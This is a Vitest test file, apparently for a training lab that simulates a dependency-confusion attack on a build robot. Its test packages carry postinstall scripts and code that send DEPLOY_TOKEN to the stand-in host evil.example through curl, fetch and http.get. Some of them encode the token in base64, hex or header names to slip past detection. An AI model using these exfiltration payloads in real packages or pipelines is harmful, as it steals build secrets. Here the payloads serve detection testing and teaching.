import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import type { Parcel } from '#contract/training/parcels.ts'
import type { ShopEvents } from '#lab'
import { hostVisits, putHostedPage } from '../../shop/fake-network/rented-hosts.ts'
import { publishParcel } from '../../shop/records/parcels.ts'
import type { Shop } from '../../shop/shop.ts'
import {
  closeTestApplication,
  openTestApplication,
  type TestApplication,
  type Visitor,
} from '../../testing/application.ts'
import { deployToken } from './folder.ts'

let application: TestApplication
let visitor: Visitor
let shop: Shop
let events: ShopEvents['build.finished'][]

beforeAll(async () => {
  application = await openTestApplication()
})
afterAll(() => closeTestApplication(application))
beforeEach(async () => {
  const name = `build-${crypto.randomUUID()}`
  visitor = application.visitor(name)
  shop = await application.host.open(name)
  events = []
  shop.on((event, payload) => {
    if (event === 'build.finished') events.push(payload as ShopEvents['build.finished'])
  })
})

const publish = (parcel: Partial<Parcel>) =>
  publishParcel(shop, {
    name: 'crate-utils',
    version: '99.0.0',
    main: '',
    scripts: {},
    dependencies: {},
    ...parcel,
  })
const rebuild = async () => (await visitor.post('/landing/rebuild', {})).json().data
const logOf = async (parcel: Partial<Parcel>): Promise<string> => {
  publish(parcel)
  return (await rebuild()).log
}
const evilHost = () =>
  putHostedPage(shop, { host: 'evil.example', path: '/', status: 200, headers: {}, body: 'pip' })

describe('the robot', () => {
  it('builds the page with the internal packages, and shows its log to everybody', async () => {
    expect((await visitor.get('/landing/build.log')).body).toContain('build 41')
    const { isBuilt, number, log } = await rebuild()
    expect([isBuilt, number]).toEqual([true, 42])
    expect(log).toContain('+ crate-utils@1.4.2 from crate.internal\n')
    expect(log).toContain('+ crate-ties@0.3.1 from crate.internal, for crate-utils\n')
    expect(log).toContain('+ peel-icons@2.0.1 from parcel-shed.example\n')
    expect(log).toMatch(/\nindex.html has 211 characters\ndone\n$/)
    const file = await visitor.get('/landing/build.log')
    expect([file.body, file.headers['content-type']]).toEqual([log, 'text/plain; charset=utf-8'])
    expect(events[0]?.installed).toContainEqual({
      name: 'crate-utils',
      version: '1.4.2',
      from: 'crate.internal',
      isInternalName: true,
    })
    expect(events[0]?.requests).toEqual([])
  })

  it('shows its log on a page in the reader’s language, and leads browsers back there', async () => {
    const { body } = await visitor.get('/landing/build', { headers: { cookie: 'language=de_DE' } })
    expect(body).toContain('>Bauprotokoll</h2>')
    expect(body).toContain('+ crate-utils@1.4.2 from crate.internal')
    expect((await visitor.get('/landing')).body).toContain('landing/build"')
    const { statusCode, headers } = await visitor.post(
      '/landing/rebuild',
      {},
      { headers: { accept: 'text/html' } },
    )
    expect([statusCode, headers.location]).toEqual([303, '../landing/build'])
    publish({ scripts: { postinstall: 'echo "<script>alert(1)</script>"' } })
    await rebuild()
    expect((await visitor.get('/landing/build')).body).not.toContain('<script>alert')
  })

  it('takes the highest version, and runs its script and its code with the token', async () => {
    evilHost()
    publish({
      scripts: { postinstall: "require('https').get('https://evil.example/?' + process.env.DEPLOY_TOKEN)" },
      main: "fetch('https://parcel-shed.example/'); exports.crate = () => 'mine'",
    })
    const { isBuilt, log } = await rebuild()
    expect(isBuilt).toBe(true)
    expect(log).toContain('+ crate-utils@99.0.0 from parcel-shed.example')
    expect(events).toMatchObject([
      {
        scriptsRan: ['crate-utils', 'peel-icons'],
        requests: [
          { host: 'evil.example', isRented: true, holdsDeployToken: true },
          { host: 'parcel-shed.example', isRented: false, holdsDeployToken: false },
        ],
      },
    ])
  })

  it('does not count a token that somebody wrote into a package', async () => {
    evilHost()
    publish({ main: `fetch('https://evil.example/?${deployToken(shop)}')` })
    await rebuild()
    expect(events[0]?.requests).toEqual([{ host: 'evil.example', isRented: true, holdsDeployToken: false }])
  })

  it.each([
    ['curl -s -d "$DEPLOY_TOKEN" https://evil.example/', true],
    ['node -e "fetch(\'https://evil.example/\' + process.env.DEPLOY_TOKEN)"', true],
    ['node index.js', true],
    ['curl -s https://evil.example/', false],
  ])('runs the script %s', async (postinstall, holdsDeployToken) => {
    evilHost()
    publish({
      main: "require('http').get({ host: 'evil.example', path: '/' + process.env.DEPLOY_TOKEN })",
      scripts: { postinstall },
    })
    await rebuild()
    expect(events[0]?.requests[0]).toMatchObject({ host: 'evil.example', holdsDeployToken })
  })

  it('records requests where they arrive, and not those that nobody answers', async () => {
    evilHost()
    const location = 'https://evil.example/'
    putHostedPage(shop, {
      host: 'detour.example',
      path: '/',
      status: 307,
      headers: { location },
      body: '',
    })
    publish({
      main: `const body = process.env.DEPLOY_TOKEN
fetch('http://evil.example:81/?' + body).catch(() => {})
fetch('https://nobody.example/?' + body).catch(() => {})
fetch('https://evil.example./?' + body)
fetch('https://detour.example/', { method: 'POST', body })
exports.crate = () => ''`,
    })
    expect((await rebuild()).isBuilt).toBe(true)
    expect(events[0]?.requests).toEqual(
      ['evil.example', 'detour.example', 'evil.example'].map((host) => ({
        host,
        isRented: true,
        holdsDeployToken: true,
      })),
    )
    expect(hostVisits(shop, 'evil.example').map(({ url }) => url)).toEqual([
      `https://evil.example/?${deployToken(shop)}`,
      location,
    ])
  })

  it.each(['', 'A', 'AB'])('knows the token in other forms, after “%s”', async (before) => {
    evilHost()
    const token = deployToken(shop)
    const bytes = Buffer.from(`${before}${token}=B`)
    const base64 = bytes.toString('base64')
    const lines = base64.replaceAll(/.{20}/g, '$&\n')
    const percent = bytes.toString('hex').replaceAll(/../g, '%$&')
    const forms = [
      percent,
      bytes.toString('hex').toUpperCase(),
      base64,
      bytes.toString('base64url'),
      encodeURIComponent(lines),
    ]
    const posted = [lines, bytes.toString('hex').replaceAll(/../g, '$& ')]
    // The parcel spells the forms from parts, as one that holds the token whole counts as typed.
    const backwards = JSON.stringify([forms, posted].map((list) => list.map((text) => [...text].reverse())))
    publish({
      main: `const [forms, posted] = ${backwards}.map((list) => list.map((text) => text.reverse().join('')))
for (const form of forms) fetch('https://evil.example/?' + form)
for (const body of posted) fetch('https://evil.example/', { method: 'POST', body })
exports.crate = () => ''`,
    })
    expect((await rebuild()).log).toMatch(/\ndone\n$/)
    const held = events[0]?.requests.map(({ holdsDeployToken }) => holdsDeployToken)
    expect(held).toEqual([...forms, ...posted].map(() => true))
  })

  it('knows the token in names of headers and in credentials, and nothing that is less than it', async () => {
    evilHost()
    publish({
      main: `const token = process.env.DEPLOY_TOKEN
fetch('https://evil.example/', { headers: { ['x-' + token]: '1' } })
fetch('https://' + token + '@evil.example/')
fetch('https://evil.example/?' + token.slice(0, -1))
exports.crate = () => ''`,
    })
    await rebuild()
    expect(events[0]?.requests.map(({ holdsDeployToken }) => holdsDeployToken)).toEqual([true, true, false])
  })

  it('is not set to work by pages of other sites', async () => {
    for (const headers of [{ origin: 'https://evil.example' }, { 'sec-fetch-site': 'cross-site' }]) {
      expect((await visitor.post('/landing/rebuild', {}, { headers })).statusCode).toBe(403)
    }
    expect(events).toEqual([])
    publish({
      main: "fetch('http://localhost:3000/landing/rebuild', { method: 'POST' }); exports.crate = () => ''",
    })
    expect((await rebuild()).isBuilt).toBe(true)
    expect(events).toHaveLength(1)
  })

  it('says in the log why a build failed, and never the token', async () => {
    expect(await logOf({ main: "throw new Error('pip ' + process.env.DEPLOY_TOKEN)" })).toMatch(
      /failed: pip \*\*\*\n$/,
    )
    expect(await logOf({ main: 'for (;;);' })).toContain('failed: the script takes too long')
    expect(await logOf({ main: '' })).toMatch(/failed: .*not a function/)
    expect(await logOf({ main: 'x'.repeat(9) })).toContain("failed: 'xxxxxxxxx' is not defined")
    expect(await logOf({ scripts: { postinstall: 'missing-program --now' } })).toContain(
      'missing-program: not found',
    )
    const line = `echo "$DEPLOY_TOKEN" "${'y'.repeat(900)}"`
    const log = await logOf({ scripts: { postinstall: line } })
    expect(log).toContain('  *** yyy')
    expect(Math.max(...log.split('\n').map((one) => one.length))).toBeLessThanOrEqual(400)
  })

  it('installs what packages need, within limits', async () => {
    expect(await logOf({ dependencies: { 'crate-ties': '^0.2.0' } })).toContain(
      'no registry has crate-ties ^0.2.0',
    )
    expect(await logOf({ dependencies: { 'peel-icons': '1' } })).toContain(
      'crate-utils needs peel-icons 1, and 2.0.1 is installed',
    )
    const names = Array.from({ length: 12 }, (_, index) => `pip-${index}`)
    for (const [index, name] of names.entries()) {
      publish({ name, version: '1.0.0', dependencies: { [names[index + 1] ?? 'pip-0']: '*' } })
    }
    expect(await logOf({ dependencies: { 'pip-0': '*' } })).toContain('too many packages')
    const loop = { dependencies: { 'crate-utils': '*', 'pip-11': '*' }, main: 'exports.crate = () => 1' }
    publish({ name: 'pip-11', version: '1.0.0', dependencies: { 'crate-utils': '>98' } })
    expect(await logOf(loop)).toContain('\ndone\n')
  })

  it('is at one build at a time', async () => {
    publish({ main: 'for (;;);' })
    const page = async () => (await visitor.get('/landing/build')).body
    const builds = Promise.all([visitor.post('/landing/rebuild', {}), visitor.post('/landing/rebuild', {})])
    await expect.poll(page).toContain('<p role="alert">A build is running already.')
    const [one, other] = await builds
    expect([one.statusCode, other.statusCode].sort()).toEqual([200, 409])
    expect(await page()).not.toContain('role="alert"')
    expect((await visitor.post('/landing/rebuild', {})).statusCode).toBe(200)
  })

  it('follows the settings that are live', async () => {
    publish({ scripts: { postinstall: 'echo mine' } })
    await shop.setLiveVersion('dependency-confusion', 'no-scripts')
    expect((await rebuild()).log).toContain('skipped: install scripts are off')
    await shop.setLiveVersion('dependency-confusion', 'each-name-its-home')
    const { isBuilt, log } = await rebuild()
    expect(isBuilt).toBe(true)
    expect(log).toContain('+ crate-utils@1.4.2 from crate.internal')
  })
})

describe('the registries', () => {
  const ask = async (url: string) => (await visitor.post('/training/net', { url })).json()

  it('tell what they have; the private one is not reached from outside', async () => {
    publish({})
    expect(JSON.stringify(await ask('https://parcel-shed.example/crate-utils'))).toContain('99.0.0')
    expect(JSON.stringify(await ask('https://parcel-shed.example/nothing'))).toContain('Not found')
    expect(JSON.stringify(await ask('https://crate.internal/crate-utils'))).toContain('ENOTFOUND')
  })
})
